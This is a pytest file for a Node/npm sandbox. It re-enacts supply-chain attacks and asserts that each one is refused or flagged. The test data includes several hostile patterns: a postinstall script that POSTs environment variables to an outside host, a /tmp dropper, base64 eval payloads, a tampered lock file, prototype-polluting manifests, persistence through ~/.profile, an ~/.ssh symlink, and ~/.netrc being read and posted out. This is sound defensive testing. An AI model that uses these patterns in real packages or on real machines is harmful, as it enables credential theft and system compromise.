"""Re-enacted attacks, harmless: each is stopped or told with the defaults. The table in docs/SECURITY.md names these
tests, and those of other modules that re-enact the rest."""

import json
from collections.abc import Iterator

import pytest

from tests.machine.browser import Machine
from tests.machine.outside import Outside
from tests.machine.registry import Registry
from tests.machine.test_sandbox import run

JS = b'module.exports = 1'


@pytest.fixture(scope='module')
def victim(machine: Machine, registry: Registry) -> Iterator[Machine]:
    run(
        machine,
        f'mkdir -p ~/project/victim; cd ~/project/victim; echo "{{}}" > package.json; echo "registry={registry.url}" > ~/.npmrc',
    )
    yield machine
    run(machine, 'cd ~/project; rm -rf ~/project/victim ~/.npmrc')


def install(machine: Machine, registry: Registry, name: str, script: str, files: dict[str, bytes] | None = None) -> str:
    """Publishes a package with a postinstall script, and installs it: what npm says."""
    contents = {'package/index.js': JS, **{f'package/{path}': data for path, data in (files or {}).items()}}
    registry.publish(name, '1.0.0', contents, scripts={'postinstall': script})
    return run(machine, f'cd ~/project/victim; npm install {name} 2>&1')[1]


def execute(machine: Machine, name: str, text: str) -> None:
    """Runs a program of the user's in ~/project/victim."""
    machine.api(
        'await wc.fs.writeFile(`victim/${args[0]}`, args[1])',
        name,
        f"const fs = require('fs'), os = require('os'); {text}",
    )
    run(machine, f'cd ~/project/victim; node {name}')


def records(machine: Machine, kind: str, who: str = '') -> list:
    found = machine.api('return (await wc.audit()).records')
    return [record for record in found if record['kind'] == kind and who in record.get('who', '')]


def test_an_environment_that_is_posted(victim: Machine, registry: Registry, outside: Outside) -> None:
    steal = f"fetch('{outside.http}/echo', {{method: 'POST', body: JSON.stringify(process.env)}}).then((r) => console.log(r.status), (e) => console.log(e.cause.code))"
    said = install(victim, registry, 'env-dumper', 'node steal.js', {'steal.js': steal.encode()})
    assert 'refused: node (postinstall of env-dumper): connect outside.test' in said
    assert records(victim, 'behaviour', 'env-dumper')[-1]['level'] == 'asked'


def test_a_dropper(victim: Machine, registry: Registry) -> None:
    drop = "const fs = require('fs'); fs.writeFileSync('/tmp/dropped', '#!/usr/bin/env sh\\necho hi\\n', {mode: 0o755}); require('child_process').execFileSync('/tmp/dropped')"
    install(victim, registry, 'dropper', 'node drop.js', {'drop.js': drop.encode()})
    found = records(victim, 'behaviour', 'dropper')
    assert any(
        'executed /tmp/dropped, which it had written' in reason for record in found for reason in record['reasons']
    )


def test_a_name_that_imitates_another(victim: Machine, registry: Registry) -> None:
    said = install(victim, registry, 'lodahs', 'node -e 1')
    assert 'lodahs: its name is nearly that of lodash' in said
    assert any('nearly that of lodash' in record['text'] for record in records(victim, 'note'))


def test_a_script_that_hides_what_it_does(victim: Machine, registry: Registry) -> None:
    hidden = "eval(Buffer.from('" + 'Y29uc29sZS5sb2coMSk7' * 20 + "', 'base64').toString())"
    said = install(victim, registry, 'hider', 'node setup.js', {'setup.js': hidden.encode()})
    assert 'hider@1.0.0 (postinstall): it decodes a long text and executes it' in said


def test_a_lock_file_that_points_elsewhere(victim: Machine, registry: Registry, outside: Outside) -> None:
    lock = {
        'name': 'x', 'version': '1.0.0', 'lockfileVersion': 3, 'requires': True,
        'packages': {
            '': {'name': 'x', 'version': '1.0.0', 'dependencies': {'honest': '1.0.0'}},
            'node_modules/honest': {'version': '1.0.0', 'resolved': f'{outside.http}/honest.tgz', 'integrity': 'sha512-' + 'A' * 86 + '=='},
        },
    }  # fmt: skip
    victim.api(
        "await wc.fs.mkdir('locked', {recursive: true}); await wc.fs.writeFile('locked/package-lock.json', args[0]); await wc.fs.writeFile('locked/package.json', args[1])",
        json.dumps(lock),
        json.dumps({'name': 'x', 'version': '1.0.0', 'dependencies': {'honest': '1.0.0'}}),
    )
    code, said = run(victim, 'cd ~/project/locked; npm ci 2>&1; ls node_modules 2>&1; cd ..; rm -rf locked')
    assert 'the lock file takes a package from outside.test, which is no registry of this project' in said
    assert 'added' not in said and "cannot access 'node_modules'" in said


def test_a_manifest_that_pollutes_prototypes(victim: Machine, registry: Registry) -> None:
    text = b'{"name": "polluter", "version": "1.0.0", "__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "bin": {"__proto__": "x.js"}}'
    registry.publish('polluter', '1.0.0', {'package/index.js': JS, 'package/package.json': text})
    code, said = run(
        victim,
        'cd ~/project/victim; npm install polluter 2>&1; node -p "require(\'polluter\'); ({}).polluted"; npm ls polluter 2>&1',
    )
    assert 'undefined' in said and 'polluter@1.0.0' in said


def test_a_policy_rewritten_by_a_program(victim: Machine) -> None:
    execute(victim, 'weaken.cjs', "fs.mkdirSync('.terrarium'); fs.writeFileSync('.terrarium/policy.json', '{}')")
    run(victim, 'rm -rf ~/project/victim/.terrarium')
    found = records(victim, 'behaviour', 'weaken.cjs')[-1]
    assert found['level'] == 'slowed' and 'policies' in found['reasons'][0]


def test_a_profile_of_the_shell_that_a_program_changes(victim: Machine) -> None:
    execute(victim, 'stay.cjs', "fs.appendFileSync(os.homedir() + '/.profile', 'echo owned')")
    run(victim, 'rm -f ~/.profile')
    assert records(victim, 'behaviour', 'stay.cjs')[-1]['level'] == 'asked'


def test_a_link_to_secrets(victim: Machine) -> None:
    run(victim, 'mkdir -p ~/.ssh')
    # a program that ends at once may end before its observer's message is read (docs/SECURITY.md)
    execute(victim, 'link.cjs', "fs.symlinkSync('../../.ssh', 'out'); setTimeout(() => {}, 1000)")
    run(victim, 'rm -rf ~/project/victim/out ~/.ssh')
    assert 'symbolic link to /home/user/.ssh' in records(victim, 'behaviour', 'link.cjs')[-1]['reasons'][0]


def test_files_removed_in_masses(victim: Machine) -> None:
    run(
        victim, 'mkdir -p ~/project/victim/mine; cd ~/project/victim/mine; for k in $(seq 80); do echo x > $k.txt; done'
    )
    execute(victim, 'wipe.cjs', "for (const n of fs.readdirSync('mine')) fs.unlinkSync('mine/' + n)")
    found = records(victim, 'behaviour', 'wipe.cjs')[-1]
    assert found['level'] == 'asked' and 'removed' in found['reasons'][0]


def test_keys_read_by_a_child_and_posted(victim: Machine, outside: Outside) -> None:
    run(victim, 'echo secret > ~/.netrc')
    read = "const key = require('child_process').execSync('cat ~/.netrc').toString()"
    execute(victim, 'child.cjs', f"{read}; fetch('{outside.http}/echo', {{method: 'POST', body: key}}).catch(() => 1)")
    run(victim, 'rm ~/.netrc')
    found = records(victim, 'behaviour', 'child.cjs')[-1]
    assert found['level'] == 'slowed' and 'it connected to outside.test' in found['reasons'][0]


def test_text_on_a_command_line_that_hides_itself(victim: Machine) -> None:
    run(victim, "cd ~/project/victim; node -e \"eval(Buffer.from('31', 'hex').toString())\"")
    assert any(
        'decodes a text and executes it' in reason
        for record in records(victim, 'behaviour')
        for reason in record.get('reasons', [])
    )
